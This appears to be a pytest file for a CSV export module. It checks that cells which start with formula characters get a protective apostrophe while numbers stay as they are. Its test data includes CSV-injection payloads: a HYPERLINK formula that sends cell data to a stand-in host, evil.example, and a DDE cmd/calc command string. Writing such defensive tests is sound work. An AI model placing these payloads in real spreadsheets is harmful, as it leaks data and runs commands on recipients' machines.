"""CSV neutralisation: hostile text gets a leading ', numbers never do (docs/security.md)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import polars as pl
import pytest

from reports.csv_export import frame_to_csv, frame_to_csv_bytes, neutralise_frame, neutralise_text

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
HOSTILE = ["=1+1", "=cmd|'/Ccalc'!A0", "-1+1", "+1+1", "@A1", HYPERLINK, "=TODAY()", "\t=1+1", "\r=1+1",
           "-", "+", "@"]
HARMLESS = ["县公安局", "", "a=1", " =1+1", "1-1", "'=1+1", "-5", "-0.25", "+3", "12%", "1e5"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_prefixed(value):
    assert neutralise_text(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_unchanged(value):
    assert neutralise_text(value) == value


@pytest.mark.parametrize("value", [None, -5, -1.5, 0, 3, dt.date(2023, 5, 31)])
def test_non_text_is_unchanged(value):
    assert neutralise_text(value) == value


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_frame_to_csv_prefixes_every_hostile_text_cell_and_no_number():
    frame = pl.DataFrame({
        "unit": HOSTILE + HARMLESS,
        "count": list(range(-5, -5 + len(HOSTILE) + len(HARMLESS))),
        "rate": [-0.5] * (len(HOSTILE) + len(HARMLESS)),
    })
    rows = _cells(frame_to_csv(frame))
    assert rows[0] == ["unit", "count", "rate"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + HARMLESS
    assert rows[1][1:] == ["-5", "-0.5"]  # numbers, negative ones included, are never prefixed
    assert all(not r[1].startswith("'") and not r[2].startswith("'") for r in rows[1:])


def test_the_naive_csv_is_hostile():
    # Guards the test above: without neutralisation the formula reaches the spreadsheet as is.
    frame = pl.DataFrame({"note": [HYPERLINK]})
    assert _cells(frame.write_csv())[1][0] == HYPERLINK
    assert _cells(frame_to_csv(frame))[1][0] == "'" + HYPERLINK


def test_nulls_stay_empty_and_other_dtypes_are_kept():
    frame = pl.DataFrame({"note": ["=1+1", None], "day": [dt.date(2023, 5, 31), None], "ok": [True, None]})
    out = neutralise_frame(frame)
    assert out.schema == frame.schema
    assert out["note"].to_list() == ["'=1+1", None]
    assert _cells(frame_to_csv(frame))[1:] == [["'=1+1", "2023-05-31", "true"], ["", "", ""]]


def test_list_and_categorical_columns_are_neutralised_as_text():
    frame = pl.DataFrame({"kind": pl.Series(["@A1"], dtype=pl.Categorical), "tags": [["=1+1"]]})
    out = neutralise_frame(frame)
    assert out["kind"].to_list() == ["'@A1"]
    assert out["tags"].to_list() == ["['=1+1']"]  # a list written as text begins with "[": harmless


def test_only_the_named_columns():
    frame = pl.DataFrame({"unit": ["=1+1"], "value": ["-1+1"]})
    assert neutralise_frame(frame, columns=["unit"]).row(0) == ("'=1+1", "-1+1")


def test_download_bytes_carry_a_bom_for_excel():
    data = frame_to_csv_bytes(pl.DataFrame({"单位": ["=1+1"]}))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "单位\n'=1+1\n"
